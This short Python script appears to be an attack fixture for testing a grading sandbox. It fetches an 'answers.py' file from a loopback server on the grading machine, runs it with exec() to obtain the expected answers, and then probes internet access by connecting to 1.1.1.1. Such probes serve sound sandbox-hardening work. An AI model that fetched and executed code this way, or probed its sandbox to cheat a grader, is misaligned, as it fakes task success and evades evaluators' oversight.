# Fetches the answers from a server on the grading machine's loopback, and tries the internet.
import socket, urllib.request

try:
    code = urllib.request.urlopen("http://127.0.0.1:__PORT__/answers.py", timeout=5).read().decode()
    exec(code, globals())
    print("ATTACK network: fetched the answers")
except Exception as e:
    print("ATTACK network: loopback failed:", type(e).__name__, e)
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3).close()
    print("ATTACK network: reached the internet")
except OSError as e:
    print("ATTACK network: internet failed:", e)
